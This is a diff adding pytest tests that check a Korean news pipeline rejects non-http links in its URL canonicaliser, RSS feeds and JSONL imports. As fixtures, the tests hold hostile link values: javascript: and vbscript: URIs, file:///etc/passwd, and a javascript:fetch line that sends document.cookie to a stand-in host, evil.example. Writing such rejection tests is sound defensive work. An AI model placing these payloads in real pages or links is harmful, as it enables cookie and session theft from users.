@@ -1,13 +1,15 @@
 """Encodings, mojibake, canonical URLs and story clustering."""
 
+import json
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
+from azak_pipelines.lib.news import jsonl, rss
 from azak_pipelines.lib.news.articles import RawItem, build_articles, news_id
 from azak_pipelines.lib.news.dedup import Headline, cluster_headlines
 from azak_pipelines.lib.news.text import UndecodableText, clean, clean_or_reason, decode, repair
-from azak_pipelines.lib.news.urls import canonical_url
+from azak_pipelines.lib.news.urls import UnsafeUrl, canonical_url
 
 T0 = datetime(2025, 6, 2, 1, 0, tzinfo=UTC)
 
@@ -108,3 +110,36 @@ def test_clustering_is_deterministic():
     first = sorted((a.url, a.cluster_id) for a in build_articles(items))
     second = sorted((a.url, a.cluster_id) for a in build_articles(list(reversed(items))))
     assert first == second
+
+
+@pytest.mark.parametrize("link", ["javascript:alert(document.cookie)", " JavaScript:alert(1)",
+                                  "data:text/html,<b>x</b>", "file:///etc/passwd", "vbscript:msgbox(1)",
+                                  "https:///no-host", "//cdn.example/x"])
+def test_only_http_links_become_canonical_urls(link):
+    with pytest.raises(UnsafeUrl, match="not an http"):
+        canonical_url(link)
+
+
+def test_every_source_rejects_a_link_that_is_not_http(tmp_path):
+    """A feed and an imported file each carry a ``javascript:`` link: that row is rejected with
+    the reason, the good rows are kept (Naver links are rebuilt from their ids, DART's and
+    Reddit's from fixed https prefixes)."""
+    feed = b"""<?xml version="1.0" encoding="UTF-8"?><rss><channel>
+      <item><title>good</title><link>https://www.hankyung.com/article/1</link>
+            <pubDate>Mon, 02 Jun 2025 09:00:00 +0900</pubDate></item>
+      <item><title>bad</title><link>javascript:alert(1)</link>
+            <pubDate>Mon, 02 Jun 2025 09:00:00 +0900</pubDate></item></channel></rss>"""
+    parsed = rss.parse_feed(feed, "hankyung", "한국경제", datetime(2025, 6, 2, tzinfo=UTC))
+    assert [i.url for i in parsed.items] == ["https://www.hankyung.com/article/1"]
+    [rejected] = parsed.rejected
+    assert rejected.reason == "the link is not an http(s) address with a host: 'javascript:alert(1)'"
+
+    lines = [{"title": "좋은 기사", "source": "vendor", "published_at": "2025-06-02T09:00:00+09:00",
+              "url": "https://example.com/a"},
+             {"title": "나쁜 기사", "source": "vendor", "published_at": "2025-06-02T09:00:00+09:00",
+              "url": "javascript:fetch('//evil.example/'+document.cookie)"}]
+    path = tmp_path / "news.jsonl"
+    path.write_text("\n".join(json.dumps(line, ensure_ascii=False) for line in lines) + "\n")
+    imported = jsonl.read_news_file(path)
+    assert [i.url for i in imported.items] == ["https://example.com/a"]
+    assert len(imported.rejected) == 1 and "not an http(s) address" in imported.rejected[0].reason
